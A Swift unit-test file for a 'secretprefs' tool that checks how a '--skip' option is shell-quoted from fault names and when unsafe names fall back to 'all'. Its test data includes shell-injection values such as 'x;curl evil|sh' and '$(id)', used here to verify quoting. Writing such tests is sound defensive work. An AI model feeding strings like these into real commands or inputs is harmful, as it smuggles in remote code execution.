import Testing

@testable import secretprefs

/// The list of `--skip`, and the one that a hint names.
struct SkippedPartsTests {
  private static func fault(_ line: Int, _ last: Int? = nil, _ name: String = "") -> PlainFault {
    PlainFault(line: line, name: name, reason: "bad", lastLine: last)
  }

  @Test(arguments: [
    ("x;curl evil|sh", "'x;curl evil|sh'"), ("$(id)", "'$(id)'"), ("it's", "'it'\\''s'"), ("a b", "'a b'"),
    ("web/loop", "web/loop"), ("7 up", "'7 up'"),
  ])
  func `a name is one word of a shell, and the list with it stands for the name`(_ name: String, _ word: String) throws
  {
    let faults = [Self.fault(0, nil, name), Self.fault(0, nil, "y")]
    #expect(SkippedParts.option(faults) == "--skip " + (word == name ? "\(name),y" : "\(word.dropLast()),y'"))
    #expect(try SkippedParts("\(name),y").divide(faults).remaining.isEmpty)
    let outcome = try Tool.shell("printf %s \(SkippedParts.option([Self.fault(0, nil, name)]))", in: try Scratch())
    #expect(outcome.text == "--skip\(name)")
  }

  @Test(arguments: [
    "all", "7", "5-9", "9-5", "0", "@x", "@", "-x", " x", "x ", "\tx", "", ",", "a,b", "a,\u{301}", "x\u{1B}",
    "a\u{202E}b",
  ])
  func `a name that a list reads as something else is left out with all`(_ name: String) {
    #expect(SkippedParts.option([Self.fault(0, nil, name), Self.fault(0, nil, "y")]) == "--skip all")
  }

  @Test func `lines and ranges stand without quotes`() {
    #expect(SkippedParts.option([Self.fault(2, 3), Self.fault(5)]) == "--skip 2-3,5")
  }
}
